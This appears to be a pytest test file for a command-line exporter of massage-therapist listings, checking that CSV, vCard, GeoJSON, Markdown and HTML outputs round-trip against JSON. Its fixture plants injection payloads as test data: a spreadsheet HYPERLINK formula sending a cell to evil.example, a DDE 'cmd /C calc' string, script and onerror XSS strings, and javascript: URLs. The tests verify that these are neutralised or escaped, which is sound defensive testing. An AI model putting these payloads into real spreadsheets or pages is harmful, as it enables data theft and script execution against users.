"""`knead export` and `knead search -o`: every format read back and compared with the JSON export.

Indexes are built through the library (conftest's RecordStore + build_index).
Each format is parsed with an independent reader (csv module, a GeoJSON
structure check after RFC 7946, vobject for vCards, markdown-it for Markdown,
html.parser for HTML) and compared with the JSON export of the same search.
"""

from __future__ import annotations

import csv
import json
import math
import re
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import store_listings

from index.model.listing import TherapistListing
from index.records.datadir import DataDir
from index.records.store import RecordStore
from index.search.generations import build_index
from search_cli.main import cli

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SEARCHES = [
    ["back pain", "--near", "06103", "--radius", "100"],
    ["--technique", "deep-tissue", "--technique", "sports"],
    ["--state", "NY"],
]


def run(data_dir: DataDir, *args: str, catch: bool = False):
    return CliRunner().invoke(cli, ["--data-dir", str(data_dir.root), *args], catch_exceptions=catch)


def json_export(data_dir: DataDir, *search: str) -> dict:
    result = run(data_dir, "export", "-", *search)
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def export_file(data_dir: DataDir, path: Path, *search: str, expect_stderr: str | None = None) -> Path:
    result = run(data_dir, "export", str(path), *search)
    assert result.exit_code == 0, result.output
    if expect_stderr is not None:
        assert result.stderr == expect_stderr
    return path


# -- hostile listings ---------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Zoë")'


def hostile_listings() -> list[dict]:
    base = dict(source="test", city="Hartford", state="CT", zip="06103", lat=41.7672, lon=-72.676,
                techniques=["deep-tissue"], insurance=["aetna"], accepts_insurance=True)
    return [
        TherapistListing(
            id="h:1", url="https://d.example/1", name=HOSTILE_NAME, credentials=["LMT", "BCTMB"],
            business='<script>alert("x")</script> & "Sons", Ltd; | pipe',
            street="1 Main St\nSuite 2", phone="+18605550101", email="=cmd@evil.example",
            website="javascript:alert(1)", bio="Line one\r\nLine two, with \"quotes\"; and | bars\n=1+1",
            conditions=["neck; pain", "a|b", "-2+3", "@SUM(A1)"], languages=["Español"], **base,
        ).to_dict(),
        TherapistListing(
            id="h:2", url="https://d.example/2", name="Łukasz Nguyễn 山田 \\ O'Brien", credentials=["CMT"],
            business="Tab\tand CR\rstart &lt;b&gt; &#60;", street="\t2 Elm St", phone="(860) 555-0102 ext. 3",
            email="ana@example.org", website="https://x.example/a,b;c?q=1&z=2", license="-2+3+cmd|' /C calc'!A0",
            gender="@SUM(1+1)",
            bio="*bold* _em_ [link](javascript:alert(1)) <img src=x onerror=alert(1)> `code` ~~s~~ $x$",
            conditions=["TMJ"], **{**base, "lat": 41.77, "lon": -72.68},
        ).to_dict(),
        TherapistListing(
            id="h:3", url="javascript:alert(2)", name=None, business="+Plus Studio", city="Hartford", state="CT",
            zip="06103", source="test", techniques=["deep-tissue"], insurance=["aetna"], accepts_insurance=True,
            bio="No coordinates here.",
        ).to_dict(),
    ]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> DataDir:
    data_dir = DataDir(tmp_path_factory.mktemp("hostile")).ensure()
    build_index(store_listings(data_dir, hostile_listings()), data_dir.index_root)
    return data_dir


# -- independent readers ------------------------------------------------------

def text_of(value) -> str:
    """A JSON value as a CSV cell shows it, before neutralisation."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "; ".join(value)
    return str(value)


def unneutralise(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:2] in FORMULA_STARTS and cell[1:2] else cell


def check_geojson(doc: dict) -> list[dict]:
    """RFC 7946's structure for a FeatureCollection of Points; returns the features."""
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc  # removed from the spec (RFC 7946 4)
    assert isinstance(doc["features"], list)
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert set(feature) >= {"type", "geometry", "properties"}
        assert isinstance(feature.get("id"), (str, int, float))
        geometry = feature["geometry"]
        assert geometry["type"] == "Point"
        lon, lat = geometry["coordinates"]  # exactly two positions: longitude, latitude
        assert all(isinstance(v, (int, float)) and math.isfinite(v) for v in (lon, lat))
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert feature["properties"] is None or isinstance(feature["properties"], dict)
    return doc["features"]


class TableReader(HTMLParser):
    """Cells of every <tr> (text, <br> as a new line), each row's attributes, and every start tag."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.rows: list[list[str]] = []
        self.row_attrs: list[dict] = []
        self.tags: list[tuple[str, dict]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "tr":
            self.rows.append([])
            self.row_attrs.append(dict(attrs))
        elif tag in ("td", "th"):
            self._cell = []
        elif tag == "br" and self._cell is not None:
            self._cell.append("\n")

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def read_table(html: str) -> TableReader:
    reader = TableReader()
    reader.feed(html)
    reader.close()
    return reader


def phone_shown(phone):
    if phone and phone.startswith("+1") and len(phone) == 12:
        return f"{phone[2:5]}-{phone[5:8]}-{phone[8:]}"
    return phone or ""


def expected_cells(row: dict) -> dict[str, str]:
    """The human table's cells for a JSON result, worked out here independently of the writers."""
    return {
        "Name": row["name"] or "", "Credentials": ", ".join(row["credentials"]), "Business": row["business"] or "",
        "Phone": phone_shown(row["phone"]), "Email": row["email"] or "", "Website": row["website"] or "",
        "Techniques": ", ".join(row["techniques"]), "Insurance": ", ".join(row["insurance"]),
        "First seen": row["first_seen"][:10],
    }


def by_heading(table: TableReader) -> list[dict[str, str]]:
    header, *body = table.rows
    return [dict(zip(header, cells)) for cells in body]


def markdown_table(text: str) -> TableReader:
    from markdown_it import MarkdownIt

    return read_table(MarkdownIt("commonmark").enable("table").render(text))


# -- round trips on the corpus ------------------------------------------------

@pytest.mark.parametrize("search", SEARCHES, ids=["text-near", "filters", "state"])
def test_json_export_is_every_match_as_knead_search_json(corpus, search):
    data_dir, _ = corpus
    exported = json_export(data_dir, *search)
    searched = json.loads(run(data_dir, "search", *search, "--all", "--format", "json").stdout)
    assert exported == searched
    assert len(exported["results"]) == exported["total"] > 20  # more than one page


@pytest.mark.parametrize("search", SEARCHES, ids=["text-near", "filters", "state"])
def test_jsonl_round_trip(corpus, tmp_path, search):
    data_dir, _ = corpus
    exported = json_export(data_dir, *search)
    path = export_file(data_dir, tmp_path / "out.jsonl", *search)
    # Each line is a listing that also carries the query and filters that produced it.
    search_keys = {"query": exported["query"], "filters": exported["filters"]}
    assert exported["filters"]
    assert [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] == [
        {**row, **search_keys} for row in exported["results"]]


@pytest.mark.parametrize("search", SEARCHES, ids=["text-near", "filters", "state"])
def test_csv_round_trip(corpus, tmp_path, search):
    data_dir, _ = corpus
    expected = json_export(data_dir, *search)["results"]
    path = export_file(data_dir, tmp_path / "out.csv", *search)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(expected)
    for row, want in zip(rows, expected):
        assert list(row) == list(want)  # the same fields, in the same order
        for key, value in want.items():
            assert unneutralise(row[key]) == text_of(value), key
            if isinstance(value, list) and value:
                assert unneutralise(row[key]).split("; ") == value
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values() if not _is_number(cell))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("search", SEARCHES, ids=["text-near", "filters", "state"])
def test_geojson_round_trip(corpus, tmp_path, search):
    data_dir, _ = corpus
    expected = json_export(data_dir, *search)["results"]
    placed = [r for r in expected if r["lat"] is not None]
    left_out = len(expected) - len(placed)
    assert left_out > 0 or "--near" in search  # --near never matches listings without coordinates
    path = tmp_path / "out.geojson"
    result = run(data_dir, "export", str(path), *search)
    assert result.exit_code == 0
    note = f"Left out {left_out} listings without coordinates from the GeoJSON.\n" if left_out else ""
    assert result.stderr == note + f"Exported {len(expected)} listings to {path} (geojson).\n"
    features = check_geojson(json.loads(path.read_text(encoding="utf-8")))
    assert [f["properties"] for f in features] == placed
    assert [f["id"] for f in features] == [r["id"] for r in placed]
    assert [f["geometry"]["coordinates"] for f in features] == [[r["lon"], r["lat"]] for r in placed]


def test_geojson_near_search_leaves_nothing_out(corpus, tmp_path):
    data_dir, _ = corpus
    result = run(data_dir, "export", str(tmp_path / "n.geojson"), "--near", "06103")
    assert "without coordinates" not in result.stderr  # --near never matches listings without them


def read_vcards(text: str):
    import vobject

    return list(vobject.readComponents(text))


@pytest.mark.parametrize("search", SEARCHES, ids=["text-near", "filters", "state"])
def test_vcard_round_trip(corpus, tmp_path, search):
    data_dir, _ = corpus
    expected = json_export(data_dir, *search)["results"]
    path = export_file(data_dir, tmp_path / "out.vcf", *search)
    raw = path.read_bytes()
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
    assert b"\n" not in raw.replace(b"\r\n", b"")  # CRLF only
    cards = read_vcards(raw.decode("utf-8"))
    assert len(cards) == len(expected)
    for card, want in zip(cards, expected):
        assert card.version.value == "4.0"
        assert card.uid.value == card.contents["x-knead-id"][0].value == want["id"]  # the id `knead show` takes
        assert card.fn.value == (want["name"] or want["business"] or want["id"])
        assert card.tel.value == f"tel:{want['phone']}"
        if want["business"]:
            assert card.org.value == [want["business"]]
        if want["credentials"]:
            assert card.title.value == ", ".join(want["credentials"])
        if want["name"]:  # "First Last" in the corpus
            assert (card.n.value.given, card.n.value.family) == tuple(want["name"].split(" ", 1))
        adr = card.adr.value
        assert (adr.street, adr.city, adr.region, adr.code) == (want["street"], want["city"], want["state"], want["zip"])
        if want["lat"] is None:
            assert "geo" not in card.contents
        else:
            lat, lon = card.geo.value.removeprefix("geo:").split(",")
            assert (float(lat), float(lon)) == (want["lat"], want["lon"])
        assert f"Listing: {want['url']}" in card.note.value
        assert card.note.value.startswith(f"knead id: {want['id']}\n")


@pytest.mark.parametrize("search", SEARCHES, ids=["text-near", "filters", "state"])
def test_markdown_round_trip(corpus, tmp_path, search):
    data_dir, _ = corpus
    expected = json_export(data_dir, *search)["results"]
    path = export_file(data_dir, tmp_path / "out.md", *search)
    rows = by_heading(markdown_table(path.read_text(encoding="utf-8")))
    assert len(rows) == len(expected)
    for row, want in zip(rows, expected):
        for key, value in expected_cells(want).items():
            assert row[key] == value, key
        if "distance_miles" in want:
            assert row["Miles"] == f"{want['distance_miles']:.1f}"


@pytest.mark.parametrize("search", SEARCHES, ids=["text-near", "filters", "state"])
def test_html_round_trip(corpus, tmp_path, search):
    data_dir, _ = corpus
    expected = json_export(data_dir, *search)["results"]
    path = export_file(data_dir, tmp_path / "out.html", *search)
    page = read_table(path.read_text(encoding="utf-8"))
    rows = by_heading(page)
    assert [a.get("data-id") for a in page.row_attrs[1:]] == [r["id"] for r in expected]
    for number, (row, want) in enumerate(zip(rows, expected), 1):
        assert row["#"] == str(number)
        want_cells = expected_cells(want)
        want_cells["Name"] = want_cells["Name"] or "(no name)"
        for key, value in want_cells.items():
            assert row[key] == value, key
    dots = [attrs for tag, attrs in page.tags if tag == "circle" and attrs.get("class") == "dot"]
    on_map = sorted(int(row) for d in dots for row in d["data-rows"].split())  # a marker may stand for several
    assert on_map == [i for i, r in enumerate(expected, 1) if r["lat"] is not None]
    rings = [attrs for tag, attrs in page.tags if tag == "ellipse" and attrs.get("class") == "ring"]
    assert len(rings) == (1 if "--near" in search else 0)


# -- hostile text survives every format ---------------------------------------

def test_hostile_text_in_csv(hostile, tmp_path):
    want = json_export(hostile, "--sort", "name")["results"]
    path = export_file(hostile, tmp_path / "h.csv", "--sort", "name")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["id"] for r in rows] == [w["id"] for w in want]
    by_id = {r["id"]: r for r in rows}
    assert by_id["h:1"]["name"] == "'" + HOSTILE_NAME
    assert by_id["h:1"]["email"] == "'=cmd@evil.example"
    assert by_id["h:1"]["phone"] == "'+18605550101"
    assert by_id["h:1"]["conditions"] == "neck; pain; a|b; -2+3; @SUM(A1)"  # starts with n: left alone
    bio = {w["id"]: w for w in want}["h:1"]["bio"]  # as the index keeps it (a lone CR is cleaned to a space)
    assert "Line two, with \"quotes\"; and | bars\n=1+1" in bio and by_id["h:1"]["bio"] == bio
    assert by_id["h:1"]["business"] == '<script>alert("x")</script> & "Sons", Ltd; | pipe'
    assert by_id["h:2"]["business"] == {w["id"]: w for w in want}["h:2"]["business"]  # "Tab\t...": starts with T
    assert by_id["h:2"]["license"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_id["h:2"]["gender"] == "'@SUM(1+1)"
    assert by_id["h:2"]["name"] == "Łukasz Nguyễn 山田 \\ O'Brien"
    assert by_id["h:3"]["business"] == "'+Plus Studio"
    assert by_id["h:1"]["lon"] == "-72.676"  # numbers stay numbers
    for row, listing in zip(rows, want):
        for key, value in listing.items():
            assert unneutralise(row[key]) == text_of(value)


def test_excel_csv_has_a_bom_and_the_same_rows(hostile, tmp_path):
    plain = export_file(hostile, tmp_path / "plain.csv")
    excel = tmp_path / "excel.csv"
    assert run(hostile, "export", str(excel), "--excel").exit_code == 0
    assert excel.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")


def test_hostile_text_in_json_jsonl_geojson(hostile, tmp_path):
    want = json_export(hostile)["results"]
    jsonl = export_file(hostile, tmp_path / "h.jsonl")
    assert [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()] == [
        {**row, "query": None, "filters": {}} for row in want]
    assert "山田" in jsonl.read_text(encoding="utf-8")  # UTF-8, not \u escapes
    geo = tmp_path / "h.geojson"
    result = run(hostile, "export", str(geo))
    assert result.stderr.startswith("Left out 1 listing without coordinates from the GeoJSON.\n")
    features = check_geojson(json.loads(geo.read_text(encoding="utf-8")))
    assert [f["properties"] for f in features] == [w for w in want if w["lat"] is not None]


def test_hostile_text_in_vcards(hostile, tmp_path):
    want = {w["id"]: w for w in json_export(hostile)["results"]}
    raw = export_file(hostile, tmp_path / "h.vcf").read_bytes()
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
    raw.decode("utf-8")  # folding never splits a UTF-8 sequence
    cards = {c.uid.value: c for c in read_vcards(raw.decode("utf-8"))}
    assert set(cards) == set(want)
    one, two, three = cards["h:1"], cards["h:2"], cards["h:3"]
    assert one.fn.value == HOSTILE_NAME
    assert one.org.value == ['<script>alert("x")</script> & "Sons", Ltd; | pipe']
    assert one.adr.value.street == "1 Main St\nSuite 2"
    assert one.email.value == "=cmd@evil.example"
    assert "Conditions: neck; pain, a|b, -2+3, @SUM(A1)" in one.note.value
    assert one.url.value == "javascript:alert(1)"  # a contact's URL is data; no app runs it
    assert two.fn.value == "Łukasz Nguyễn 山田 \\ O'Brien"
    n = two.n.value
    assert (n.family, n.given, n.additional) == ("O'Brien", "Łukasz", "Nguyễn 山田 \\")
    assert two.url.value == "https://x.example/a,b;c?q=1&z=2"
    assert two.tel.value == "(860) 555-0102 ext. 3"
    assert two.org.value == [want["h:2"]["business"]] and two.org.value[0].startswith("Tab\tand CR")
    assert three.fn.value == "+Plus Studio" and three.kind.value == "org"
    assert "geo" not in three.contents


def test_hostile_text_in_markdown(hostile, tmp_path):
    want = json_export(hostile, "--sort", "name")["results"]
    text = export_file(hostile, tmp_path / "h.md", "--sort", "name").read_text(encoding="utf-8")
    lines = text.splitlines()
    table_lines = [line for line in lines if line.startswith("|")]
    assert len(table_lines) == 2 + len(want)  # no value broke out of its row
    columns = table_lines[0].count(" | ") + 1
    assert all(_unescaped_pipes(line) == columns + 1 for line in table_lines)
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").enable("table").render(text)
    page = read_table(rendered)
    assert {tag for tag, _ in page.tags} <= {"p", "table", "thead", "tbody", "tr", "th", "td", "br"}
    rows = by_heading(page)
    for row, listing in zip(rows, want):
        for key, value in expected_cells(listing).items():
            assert row[key] == value.replace("\r\n", "\n").replace("\r", "\n").strip(), key


def _unescaped_pipes(line: str) -> int:
    count, i = 0, 0
    while i < len(line):
        if line[i] == "\\":
            i += 2
            continue
        count += line[i] == "|"
        i += 1
    return count


def test_hostile_text_in_html(hostile, tmp_path):
    want = json_export(hostile, "--sort", "name", "--near", "06103")["results"]
    html = export_file(hostile, tmp_path / "h.html", "--sort", "name", "--near", "06103").read_text(encoding="utf-8")
    page = read_table(html)
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"script", "img", "iframe", "object", "embed", "b", "link", "base", "form"}
    assert "<script>" not in html and "&lt;script&gt;" in html
    hrefs = [attrs["href"] for tag, attrs in page.tags if tag == "a" and "href" in attrs]
    assert not [h for h in hrefs if not h.startswith(("https://", "http://", "mailto:", "#listing-"))]
    assert "https://x.example/a,b;c?q=1&z=2" in hrefs
    rows = by_heading(page)
    assert len(rows) == len(want) == 2  # h:3 has no coordinates: not near anything
    for row, listing in zip(rows, want):
        for key, value in expected_cells(listing).items():
            assert row[key] == "\n".join(value.splitlines()), key
    meta = [attrs for tag, attrs in page.tags if tag == "meta" and attrs.get("http-equiv")]
    assert meta and "default-src 'none'" in meta[0]["content"]


def test_html_map_draws_listings_at_one_place_as_one_counted_marker(hostile, tmp_path):
    near = export_file(hostile, tmp_path / "5.html", "--near", "06103", "--radius", "5").read_text(encoding="utf-8")
    html = export_file(hostile, tmp_path / "50.html", "--near", "06103", "--radius", "50").read_text(encoding="utf-8")
    # h:1 and h:2 stand 300 m apart: two dots on a 10-mile map, one marker counting 2 on a 100-mile one
    assert [d["data-rows"] for tag, d in read_table(near).tags if d.get("class") == "dot"] == ["1", "2"]
    assert '<text class="count"' not in near
    assert re.search(r"<figcaption>(.*)</figcaption>", near).group(1) == (
        "2 of 2 listings on the map around 06103 (Hartford, CT), at 2 points.")
    assert [d["data-rows"] for tag, d in read_table(html).tags if d.get("class") == "dot"] == ["1 2"]
    assert '<text class="count"' in html and ">2</text>" in html
    assert re.search(r"<figcaption>(.*)</figcaption>", html).group(1) == (
        "2 of 2 listings on the map around 06103 (Hartford, CT), at 1 point "
        "(the number on a dot counts the listings there).")


def test_query_text_is_escaped_in_html_and_markdown(hostile, tmp_path):
    query = 'deep <i>"tissue"</i> & |pain|'
    html = export_file(hostile, tmp_path / "q.html", query).read_text(encoding="utf-8")
    page = read_table(html)
    assert "i" not in {tag for tag, _ in page.tags}
    assert "<title>Massage therapists: deep &lt;i&gt;&quot;tissue&quot;&lt;/i&gt; &amp; |pain|</title>" in html
    md = export_file(hostile, tmp_path / "q.md", query).read_text(encoding="utf-8")
    assert re.match(r"\d+ listings? for \u201cdeep \\<i\\>\"tissue\"\\</i\\> & \\\|pain\\\|\u201d", md)


# -- options, stdout, errors --------------------------------------------------

def test_stdout_dash_and_format_option(hostile):
    result = run(hostile, "export", "-", "--format", "CSV")
    assert result.exit_code == 0 and result.stderr == ""
    assert result.stdout.startswith("id,source,url,")
    assert run(hostile, "export", "-").stdout == run(hostile, "search", "--all", "--format", "json").stdout


def test_format_option_overrides_the_extension(hostile, tmp_path):
    path = export_file(hostile, tmp_path / "contacts.txt", "--format", "vcf")
    assert path.read_bytes().startswith(b"BEGIN:VCARD\r\nVERSION:4.0\r\n")


def test_search_output_file_uses_the_export_writers(corpus, tmp_path):
    data_dir, _ = corpus
    for fmt in ("csv", "geojson", "vcf", "md", "html", "jsonl"):
        searched = tmp_path / f"s.{fmt}"
        result = run(data_dir, "search", "--state", "CT", "--all", "-o", str(searched))
        assert result.exit_code == 0 and result.stdout == ""
        exported = export_file(data_dir, tmp_path / f"e.{fmt}", "--state", "CT")
        if fmt in ("md", "html"):  # these carry the export time: compare everything else
            assert _undated(searched.read_text("utf-8")) == _undated(exported.read_text("utf-8"))
        else:
            assert searched.read_bytes() == exported.read_bytes()
    page = run(data_dir, "search", "--state", "CT", "-o", str(tmp_path / "p.vcf"))
    assert page.exit_code == 0
    assert (tmp_path / "p.vcf").read_text("utf-8").count("BEGIN:VCARD") == 20  # --limit applies


def _undated(text: str) -> str:
    return re.sub(r"exported \d{4}-\d\d-\d\d \d\d:\d\d UTC", "exported -", text)


def test_new_since_keeps_listings_first_seen_since(tmp_path):
    data_dir = DataDir(tmp_path / "data").ensure()
    now = datetime.now(timezone.utc).replace(microsecond=0)
    listings = [TherapistListing(id=f"n:{i}", source="test", name=f"Therapist {i}", city="Hartford", state="CT").to_dict()
                for i in range(4)]
    ages = {"n:0": 400, "n:1": 40, "n:2": 10, "n:3": 0}  # days since first seen
    with RecordStore(data_dir.records_path) as store:
        for listing in listings:
            store.upsert(listing, seen_at=(now - timedelta(days=ages[listing["id"]])).isoformat())
        store.upsert(listings[0], seen_at=now.isoformat())  # seen again today: first_seen stays old
        store.commit()
        build_index(list(store.listings()), data_dir.index_root)

    def ids(*args):
        return [r["id"] for r in json.loads(run(data_dir, "search", "--all", *args).stdout)["results"]]

    cutoff = (now - timedelta(days=20)).date().isoformat()
    assert ids("--new-since", "30d") == ["n:2", "n:3"]
    assert ids("--new-since", "45d") == ["n:1", "n:2", "n:3"]
    assert ids("--new-since", cutoff) == ["n:2", "n:3"]
    assert ids("--new-since", (now - timedelta(days=10)).isoformat()) == ["n:2", "n:3"]
    assert ids("--new-since", "1d") == ["n:3"]
    assert ids() == ["n:0", "n:1", "n:2", "n:3"]
    assert [r["id"] for r in json_export(data_dir, "--new-since", "30d")["results"]] == ["n:2", "n:3"]


@pytest.mark.parametrize("value", ["yesterday", "2025-13-01", "30x", "-5d", "99999999d"])
def test_new_since_bad_values(hostile, value):
    result = run(hostile, "export", "-", "--new-since", value)
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == (
        f"Error: Invalid value for '--new-since': '{value}' is not a date (YYYY-MM-DD) or a number of days (30d).")


FORMATS_LIST = ("json (.json), jsonl (.jsonl, .ndjson), csv (.csv), geojson (.geojson), vcf (.vcf, .vcard), "
                "md (.md, .markdown), html (.html, .htm)")


@pytest.mark.parametrize("args,message", [
    (["out.txt"], f"Cannot tell the format of 'out.txt' from its extension: name it with one of these extensions "
                  f"or pass --format: {FORMATS_LIST}."),
    (["noextension"], f"Cannot tell the format of 'noextension' from its extension: name it with one of these "
                      f"extensions or pass --format: {FORMATS_LIST}."),
    (["out.csv", "--format", "xml"], "Invalid value for '--format': 'xml' is not one of 'json', 'jsonl', 'csv', "
                                     "'geojson', 'vcf', 'md', 'html'."),
    (["out.html", "--excel"], "--excel applies to CSV only."),
    (["out.csv", "--radius", "5"], "--radius needs --near."),
    (["out.csv", "--technique", "deep tisue"],
     "Invalid value for '--technique' / '-t': Unknown technique 'deep tisue'; did you mean 'deep-tissue'?"),
])
def test_export_usage_errors_leave_no_file(hostile, tmp_path, monkeypatch, args, message):
    monkeypatch.chdir(tmp_path)
    result = run(hostile, "export", *args, catch=True)
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"Error: {message}"
    assert result.stdout == "" and list(tmp_path.iterdir()) == []


def test_search_output_with_unknown_extension(hostile, tmp_path):
    result = run(hostile, "search", "-o", str(tmp_path / "out.xlsx"))
    assert result.exit_code == 2
    assert "Cannot tell the format of" in result.stderr and list(tmp_path.iterdir()) == []


def test_missing_folder_is_a_clear_error(hostile, tmp_path):
    target = tmp_path / "no" / "such" / "out.csv"
    result = run(hostile, "export", str(target))
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"Error: Invalid value for 'FILE': folder '{target.parent}' does not exist."
    assert list(tmp_path.iterdir()) == []
    result = run(hostile, "search", "-o", str(target))
    assert result.stderr.splitlines()[-1] == (
        f"Error: Invalid value for '-o' / '--output': folder '{target.parent}' does not exist.")


def test_folder_as_file_is_a_clear_error(hostile, tmp_path):
    result = run(hostile, "export", str(tmp_path))
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"Error: Invalid value for 'FILE': '{tmp_path}' is a folder; give a file name inside it."


@pytest.mark.skipif(hasattr(__import__("os"), "geteuid") and __import__("os").geteuid() == 0,
                    reason="root may write to any folder, so a read-only folder cannot be tested as root")
def test_read_only_folder_is_a_clear_error(hostile, tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        result = run(hostile, "export", str(folder / "out.csv"))
        assert result.exit_code == 2
        assert result.stderr.splitlines()[-1] == f"Error: Invalid value for 'FILE': folder '{folder}' is not writable."
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o755)


def test_write_failure_is_a_clear_error_and_leaves_no_file(hostile, tmp_path, monkeypatch):
    """A folder that turns unwritable after the check (or a full disk): ClickException, no temp file."""
    import search_cli.writers.csv_rows as csv_rows

    def failing(export, out):
        out.write("id,name\n")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(csv_rows, "write", failing)
    target = tmp_path / "out.csv"
    target.write_text("old", encoding="utf-8")
    result = run(hostile, "export", str(target))
    assert result.exit_code == 1
    assert result.stderr == f"Error: Could not write {target}: No space left on device\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"] and target.read_text(encoding="utf-8") == "old"


def test_export_before_any_crawl(tmp_path):
    result = run(DataDir(tmp_path / "empty"), "export", str(tmp_path / "x.csv"))
    assert result.exit_code == 1
    assert result.stderr == f"Error: No index yet in {tmp_path / 'empty'}: run `knead crawl` first.\n"
    assert not (tmp_path / "x.csv").exists()


def test_export_help():
    result = CliRunner().invoke(cli, ["export", "--help"], catch_exceptions=False)
    assert result.exit_code == 0
    assert result.output.startswith("Usage: cli export [OPTIONS] FILE [QUERY]")
    for option in ("--technique", "--near", "--new-since", "--format", "--excel", "--sort"):
        assert option in result.output


def test_exported_file_permissions_follow_the_umask(hostile, tmp_path):
    import os

    old = os.umask(0o022)
    try:
        path = export_file(hostile, tmp_path / "perm.json")
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644


@pytest.mark.parametrize("value,cell", [
    ("=1+1", "'=1+1"), ("+18605550142", "'+18605550142"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("plain", "plain"), ("a=1", "a=1"), ("", ""), (None, ""),
    (-72.5, "-72.5"), (3, "3"), (True, "true"), (["=a", "b"], "'=a; b"), (["b", "=a"], "b; =a"),
])
def test_csv_cells_are_neutralised_as_owasp_says(value, cell):
    from search_cli.writers.csv_rows import cell as csv_cell

    assert csv_cell(value) == cell


def test_vcard_lines_fold_at_75_octets_between_characters():
    from search_cli.writers.vcard import fold

    line = "NOTE:" + "山田Zoë" * 40
    folded = fold(line).encode("utf-8")
    physical = folded.split(b"\r\n")[:-1]
    assert len(physical) > 3
    assert all(len(p) <= 75 for p in physical)
    assert all(p.decode("utf-8") for p in physical)  # no line ends inside a UTF-8 sequence
    assert physical[0].decode() + "".join(p.decode()[1:] for p in physical[1:]) == line  # unfolds exactly
    assert all(p.startswith(b" ") for p in physical[1:])
